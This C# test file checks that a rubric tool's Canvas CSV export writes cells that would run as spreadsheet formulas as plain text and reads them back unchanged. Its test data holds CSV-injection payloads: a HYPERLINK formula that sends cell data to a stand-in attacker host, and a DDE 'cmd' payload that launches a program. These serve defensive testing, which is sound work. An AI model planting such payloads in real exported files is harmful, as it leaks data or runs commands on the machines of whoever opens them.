namespace LtiPathways.Rubrics.Tests.Import;

/// <summary>Issue 11, finding 4: text that a spreadsheet would run as a formula leaves an export as text, and imports back unchanged.</summary>
public class SpreadsheetFormulasInExportsTests
{
    private static readonly DateTimeOffset At = new(2026, 3, 1, 12, 0, 0, TimeSpan.Zero);

    public static TheoryData<string> Formulas =>
    [
        "=HYPERLINK(\"https://attacker.example/?d=\"&A1,\"Open\")",
        "+Good",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-3",
        "\t=1+1",
        "\r=1+1",
        "'=already marked as text",
    ];

    [Theory]
    [MemberData(nameof(Formulas))]
    public void A_canvas_csv_export_writes_formula_text_as_text_and_imports_back_the_same_rubric(string formula)
    {
        var rubric = new Rubric("r", formula, "t", ShareScope.Private, null,
        [
            new RubricVersion(1, At, RubricKind.Analytic,
            [
                new LevelCriterion("c1", formula, formula, [new Level("c1-r1", formula, formula, 3m, null), new Level("c1-r2", "Fair", "", 1.5m, null)]),
            ], []),
        ]);

        var csv = CanvasRubricCsv.Write(rubric).Value!;

        var row = ExportedCsv.Cells(csv)[1];
        Assert.All(new[] { row[0], row[1], row[2], row[4], row[5] }, cell => Assert.False(ExportedCsv.RunsAsFormula(cell), $"'{cell}' runs as a formula"));
        Assert.Equal(("3", "1.5"), (row[6], row[9]));
        var read = CanvasRubricCsv.Read(csv, "r", "t", At);
        Assert.True(read.IsValid, string.Join("; ", read.Problems));
        Assert.Equal(rubric, read.Value);
    }

    [Fact]
    public void Numbers_stay_numbers_and_text_that_looks_like_one_is_marked_and_read_back()
    {
        var csv = SpreadsheetCsv.Write([[CsvCell.Number(-3m), "-3", CsvCell.Number(2.50m), CsvCell.Number(null), "'-3", "Plain"]]);

        var cells = ExportedCsv.Cells(csv)[0];

        Assert.Equal(["-3", "'-3", "2.5", "", "''-3", "Plain"], cells);
        Assert.Equal(["-3", "-3", "2.5", "", "'-3", "Plain"], cells.Select(SpreadsheetCsv.TextOf));
    }
}
